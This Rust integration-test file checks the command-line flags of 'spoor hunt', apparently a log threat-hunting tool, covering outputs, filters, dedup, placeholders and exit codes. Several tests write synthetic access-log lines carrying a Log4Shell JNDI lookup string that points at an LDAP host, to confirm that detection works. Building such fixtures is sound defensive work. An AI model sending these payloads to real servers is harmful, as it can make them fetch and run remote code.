//! Every `spoor hunt` flag that changes what is read, hunted or written, each checked for its
//! effect (issue 17: the binary's flags had no tests).

mod common;

use common::{jsonl, spoor};
use serde_json::Value;
use std::path::{Path, PathBuf};

fn examples() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../examples/logs")
}

fn hunt(args: &[&str], paths: &[&Path]) -> (i32, Vec<Value>) {
    let out = spoor()
        .args(["hunt", "-f", "jsonl"])
        .args(args)
        .args(paths)
        .output()
        .unwrap();
    (out.status.code().unwrap_or(-1), jsonl(&out.stdout))
}

fn findings(lines: &[Value]) -> Vec<&Value> {
    lines.iter().filter(|l| l.get("rule").is_some()).collect()
}

#[test]
fn extra_outputs_are_written_in_their_formats() {
    let dir = tempfile::tempdir().unwrap();
    let p = |n: &str| dir.path().join(n);
    let (code, lines) = hunt(
        &[
            "--html",
            p("r.html").to_str().unwrap(),
            "--navigator",
            p("n.json").to_str().unwrap(),
            "--csv",
            p("f.csv").to_str().unwrap(),
            "--jsonl",
            p("f.jsonl").to_str().unwrap(),
        ],
        &[&examples()],
    );
    assert_eq!(code, 0);
    let n = findings(&lines).len();
    let html = std::fs::read_to_string(p("r.html")).unwrap();
    assert!(html.starts_with("<!DOCTYPE html>"));
    assert_eq!(html.matches("<tr data-level=").count(), n);
    // The report's logons section: the brute force on administrator from 203.0.113.80 (12
    // failures, 1 success) and the SSH brute force on root.
    let logons = html
        .split_once("<h2>Logons: who logged on from where</h2>")
        .map(|(_, rest)| rest.split("</section>").next().unwrap_or(""))
        .expect("a logons section");
    assert!(
        logons.contains("<tr><td>administrator</td><td>203.0.113.80</td><td>3</td><td>EX01.contoso.local</td><td>1</td><td>12</td>"),
        "{logons}"
    );
    assert!(
        logons.contains("<td>root</td><td>203.0.113.50</td>"),
        "{logons}"
    );
    let nav: Value = serde_json::from_str(&std::fs::read_to_string(p("n.json")).unwrap()).unwrap();
    assert!(nav["techniques"]
        .as_array()
        .unwrap()
        .iter()
        .any(|t| t["techniqueID"] == "T1190"));
    let csv = std::fs::read_to_string(p("f.csv")).unwrap();
    assert_eq!(csv.lines().count(), n + 1, "header and one row per finding");
    let again = std::fs::read_to_string(p("f.jsonl")).unwrap();
    assert_eq!(again.lines().count(), n + 1);
}

#[test]
fn output_file_and_threads() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("o.jsonl");
    let status = spoor()
        .args(["hunt", "-j", "1", "-o"])
        .arg(&out)
        .arg(examples())
        .output()
        .unwrap();
    assert_eq!(status.status.code(), Some(0));
    assert!(
        status.stdout.is_empty(),
        "findings go to the file, not stdout"
    );
    let lines = jsonl(&std::fs::read(&out).unwrap());
    // One thread writing to a file finds what the default run writes to stdout.
    let (_, default) = hunt(&[], &[&examples()]);
    assert!(findings(&default).len() > 40);
    assert_eq!(findings(&lines).len(), findings(&default).len());
}

#[test]
fn level_time_and_rule_filters() {
    let (_, all) = hunt(&[], &[&examples()]);
    let (_, high) = hunt(&["--min-level", "high"], &[&examples()]);
    let high = findings(&high);
    assert!(!high.is_empty() && high.len() < findings(&all).len());
    assert!(high
        .iter()
        .all(|f| matches!(f["rule"]["level"].as_str(), Some("high" | "critical"))));
    let (_, window) = hunt(
        &[
            "--from",
            "2024-07-12T10:00:00Z",
            "--to",
            "2024-07-12T11:00:00Z",
        ],
        &[&examples()],
    );
    let window = findings(&window);
    assert!(!window.is_empty());
    assert!(window.iter().all(|f| {
        let t = f["timestamp"].as_str().unwrap();
        ("2024-07-12T10:00:00Z"..="2024-07-12T11:00:00Z").contains(&t)
    }));
    let id = "bdfcbb1d-a32d-46ec-81a3-93ad79d2fde5";
    let (_, one) = hunt(&["--rule-id", id], &[&examples()]);
    let one = findings(&one);
    assert!(!one.is_empty());
    assert!(one.iter().all(|f| f["rule"]["id"] == id));
}

#[test]
fn no_dedup_keeps_every_copy() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("access.log");
    let line = "203.0.113.9 - - [12/Jul/2024:10:00:00 +0000] \"GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 200 5 \"-\" \"x\"\n";
    std::fs::write(&log, line.repeat(3)).unwrap();
    let (_, merged) = hunt(&[], &[&log]);
    let (_, every) = hunt(&["--no-dedup"], &[&log]);
    assert_eq!(findings(&merged).len(), 1);
    assert_eq!(findings(&merged)[0]["count"], 3);
    assert_eq!(findings(&every).len(), 3);
}

#[test]
fn placeholders_fill_expand_rules() {
    let dir = tempfile::tempdir().unwrap();
    let rule = dir.path().join("admins.yml");
    std::fs::write(&rule, "title: Admin logon\nid: 33333333-3333-3333-3333-333333333333\nlogsource: {product: windows, service: security}\ndetection:\n  sel:\n    EventID: 4624\n    TargetUserName|expand: '%admins%'\n  condition: sel\n").unwrap();
    let ph = dir.path().join("ph.yml");
    std::fs::write(&ph, "admins: [administrator]\n").unwrap();
    let log = examples().join("windows-events.jsonl");
    let r = rule.to_str().unwrap();
    // Without values the rule is unsupported, so nothing is left to hunt with.
    let (code, without) = hunt(&["--no-builtin", "-r", r], &[&log]);
    assert_eq!((code, without.len()), (2, 0));
    let (_, with) = hunt(
        &[
            "--no-builtin",
            "-r",
            r,
            "--placeholders",
            ph.to_str().unwrap(),
        ],
        &[&log],
    );
    let f = findings(&with);
    assert_eq!(f.len(), 1, "the one 4624 of administrator");
    assert_eq!(f[0]["source"]["line"], 110);
    // A broken placeholder file is refused before the hunt, with its place; a missing one in
    // words.
    let bad = dir.path().join("bad.yml");
    std::fs::write(&bad, "admins:\n  - administrator\n  - {nested: map}\n").unwrap();
    let gone = dir.path().join("gone.yml");
    for (file, want) in [
        (
            &bad,
            "bad.yml: line 3, column 5: placeholder values must be scalars",
        ),
        (&gone, "cannot read placeholder file"),
    ] {
        let out = spoor()
            .args(["hunt", "--no-builtin", "-r", r, "--placeholders"])
            .arg(file)
            .arg(&log)
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{err}");
        assert!(err.contains(want), "{err}");
        assert!(!err.contains("os error"), "{err}");
    }
}

#[test]
fn syslog_year_wins() {
    let (_, lines) = hunt(&["--syslog-year", "2019"], &[&examples().join("auth.log")]);
    let f = findings(&lines);
    assert!(!f.is_empty());
    assert!(f
        .iter()
        .all(|f| f["timestamp"].as_str().unwrap().starts_with("2019-")));
}

#[test]
fn glob_exclude_and_forced_format() {
    let dir = tempfile::tempdir().unwrap();
    let line = "203.0.113.9 - - [12/Jul/2024:10:00:00 +0000] \"GET /?q=${jndi:ldap://203.0.113.9/a} HTTP/1.1\" 200 5 \"-\" \"x\"\n";
    std::fs::write(dir.path().join("a.log"), line).unwrap();
    std::fs::write(dir.path().join("b.txt"), line).unwrap();
    std::fs::write(dir.path().join("c.log"), line).unwrap();
    let files = |lines: &[Value]| -> Vec<String> {
        let mut v: Vec<String> = lines.last().unwrap()["summary"]["files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| {
                f["path"]
                    .as_str()
                    .unwrap()
                    .rsplit('/')
                    .next()
                    .unwrap()
                    .to_string()
            })
            .collect();
        v.sort();
        v
    };
    let (_, g) = hunt(&["--glob", "*.log", "--exclude", "c.log"], &[dir.path()]);
    assert_eq!(files(&g), vec!["a.log"]);
    let noise = dir.path().join("noise.dat");
    std::fs::write(&noise, "not a log at all\nreally not\n").unwrap();
    let (code, forced) = hunt(&["--format-in", "access"], &[&noise]);
    assert_eq!(code, 0, "forced: every line counted unparsed, no error");
    assert_eq!(forced.last().unwrap()["summary"]["unparsed"], 2);
}

#[test]
fn bad_arguments_exit_2_and_a_closed_pipe_exits_0() {
    let out = spoor()
        .args(["hunt", "--min-level", "severe"])
        .arg(examples())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("severe"));
    // A reader that goes away after nothing: spoor stops quietly with 0.
    let mut child = std::process::Command::new(assert_cmd::cargo::cargo_bin("spoor"))
        .args(["hunt", "-f", "jsonl", "--no-dedup"])
        .arg(examples())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    assert_eq!(child.wait().unwrap().code(), Some(0));
}

#[test]
fn many_bad_indicators_are_counted_not_listed() {
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("bad.csv");
    let mut text = String::from("type,value,description\n");
    for i in 0..30_000 {
        text.push_str(&format!("ipv4,999.1.2.{i},broken\n"));
    }
    std::fs::write(&list, text).unwrap();
    let html = dir.path().join("report.html");
    let (_, lines) = hunt(
        &[
            "--iocs",
            list.to_str().unwrap(),
            "--html",
            html.to_str().unwrap(),
        ],
        &[&examples().join("auth.log")],
    );
    let s = &lines.last().unwrap()["summary"];
    assert_eq!(s["rules_invalid"], 30_000);
    let named = s["warnings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|w| w.as_str().unwrap().contains("bad.csv"))
        .count();
    assert_eq!(named, 21, "20 named and one line counting the rest");
    assert!(s.to_string().len() < 64 * 1024);
    let page = std::fs::read_to_string(&html).expect("the HTML report is written");
    // Once in the visible warning list, once in the embedded summary.
    let listed = page.matches("999.1.2.").count();
    assert!(
        (1..=40).contains(&listed),
        "the HTML report names at most 20 bad lines (twice), not {listed}"
    );
    assert!(page.len() < 256 * 1024, "{} bytes", page.len());
}

/// Issue 17 (smaller): a file that cannot be opened is named once, in words, without the
/// library's text or the operating system's error number; a missing indicator file likewise.
#[test]
fn unreadable_paths_are_named_once_in_plain_words() {
    let dir = tempfile::tempdir().unwrap();
    let missing = dir.path().join("gone.log");
    let (code, lines) = hunt(&[], &[&missing]);
    assert_eq!(code, 3, "a file that cannot be read is a partial failure");
    let file = &lines.last().unwrap()["summary"]["files"][0];
    assert_eq!(file["path"], missing.to_str().unwrap());
    assert_eq!(file["error"], "does not exist");
    let list = dir.path().join("gone.csv");
    let out = spoor()
        .args(["hunt", "--iocs"])
        .arg(&list)
        .arg(examples().join("auth.log"))
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert_eq!(err.matches("gone.csv").count(), 1, "{err}");
}

/// A failing output other than a closed standard output is reported and fails the run (exit 2),
/// whichever output it is; the other outputs are still written whole.
#[test]
fn a_failing_output_is_reported_and_changes_the_exit_code() {
    if !Path::new("/dev/full").exists() {
        panic!("this test needs /dev/full (a device whose writes fail with 'no space')");
    }
    let dir = tempfile::tempdir().unwrap();
    let good = dir.path().join("good.jsonl");
    for extra in ["--html", "--csv", "--navigator"] {
        let out = spoor()
            .args(["hunt", "-f", "jsonl", "-o"])
            .arg(&good)
            .args([extra, "/dev/full"])
            .arg(examples())
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{extra}: {err}");
        assert!(
            err.contains("cannot write output /dev/full"),
            "{extra}: {err}"
        );
        let written = jsonl(&std::fs::read(&good).unwrap());
        assert!(
            written.last().is_some_and(|l| l.get("summary").is_some()),
            "{extra}: the good output is finished with its summary"
        );
    }
    // Standard output on a full disk is not a closed pipe: also exit 2.
    let full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    for cmd in [&["hunt", "-f", "jsonl"][..], &["scan", "-f", "jsonl"][..]] {
        let out = std::process::Command::new(assert_cmd::cargo::cargo_bin("spoor"))
            .args(cmd)
            .arg(examples())
            .stdout(full.try_clone().unwrap())
            .output()
            .unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(2), "{cmd:?}: {err}");
        assert!(err.contains("cannot write output"), "{cmd:?}: {err}");
    }
}

/// An access log of `n` distinct Log4Shell requests (each a finding of the pack), big enough
/// that every output of it is larger than a pipe's buffer.
fn many_findings_log(dir: &Path, n: usize) -> PathBuf {
    let log = dir.join("access.log");
    let mut text = String::new();
    for i in 0..n {
        text.push_str(&format!(
            "203.0.113.{} - - [12/Jul/2024:00:{:02}:{:02} +0000] \"GET /app?q=${{jndi:ldap://198.51.100.9/a{i}}} HTTP/1.1\" 200 512 \"-\" \"curl/8.0\"\n",
            i % 250,
            (i / 60) % 60,
            i % 60
        ));
    }
    std::fs::write(&log, text).unwrap();
    log
}

/// Issue 17 ("only stdout may close quietly"): `-o`, `--csv` or `--html` into a FIFO whose
/// reader goes away after one byte fails the run with exit 2 and names that output, and so does
/// `-o /dev/full`; standard output closed after one byte (`spoor hunt ... | head -c 1`) is the
/// one quiet case and exits 0.
#[test]
fn issue17_only_standard_output_may_close_quietly() {
    let dir = tempfile::tempdir().unwrap();
    let log = many_findings_log(dir.path(), 6_000);
    let spoor_bin = assert_cmd::cargo::cargo_bin("spoor");
    for flag in ["-o", "--csv", "--html"] {
        let fifo = dir
            .path()
            .join(format!("out{}.fifo", flag.trim_start_matches('-')));
        let made = std::process::Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .expect("mkfifo runs");
        assert!(made.success(), "mkfifo {}", fifo.display());
        let child = std::process::Command::new(&spoor_bin)
            .args(["hunt", "-f", "jsonl", "--no-dedup", flag])
            .arg(&fifo)
            .arg(&log)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap();
        // The reader: opens the FIFO (spoor opens its outputs before reading the log), takes
        // one byte and goes away. The output is far larger than a pipe holds, so spoor must
        // write again after the reader has gone. A spoor that never opened the FIFO would leave
        // this thread blocked; the test then fails on the timeout below instead of hanging.
        let (tx, rx) = std::sync::mpsc::channel();
        let reader_path = fifo.clone();
        std::thread::spawn(move || {
            use std::io::Read;
            let got =
                std::fs::File::open(&reader_path).and_then(|mut f| f.read_exact(&mut [0u8; 1]));
            let _ = tx.send(got.is_ok());
        });
        let read_one = rx
            .recv_timeout(std::time::Duration::from_secs(120))
            .unwrap_or(false);
        let out = child.wait_with_output().unwrap();
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(read_one, "{flag}: the FIFO's reader got no byte: {err}");
        assert_eq!(out.status.code(), Some(2), "{flag}: {err}");
        let named = format!("cannot write output {}", fifo.display());
        assert!(err.contains(&named), "{flag}: {err}");
        assert!(
            !err.contains("os error"),
            "{flag}: the reason in words: {err}"
        );
    }
    // `-o` on a full disk (the other outputs had their /dev/full test above).
    let out = spoor()
        .args(["hunt", "-f", "jsonl", "-o", "/dev/full"])
        .arg(&log)
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "-o /dev/full: {err}");
    assert!(
        err.contains("cannot write output /dev/full: no space left on device"),
        "{err}"
    );
    // Standard output whose reader takes one byte and goes (`| head -c 1`): quiet, exit 0.
    let mut child = std::process::Command::new(&spoor_bin)
        .args(["hunt", "-f", "jsonl", "--no-dedup"])
        .arg(&log)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    {
        use std::io::Read;
        let mut stdout = child.stdout.take().unwrap();
        stdout
            .read_exact(&mut [0u8; 1])
            .expect("one byte of output");
    }
    let out = child.wait_with_output().unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(
        out.status.code(),
        Some(0),
        "a closed stdout is quiet: {err}"
    );
    assert!(!err.contains("cannot write output"), "{err}");
}
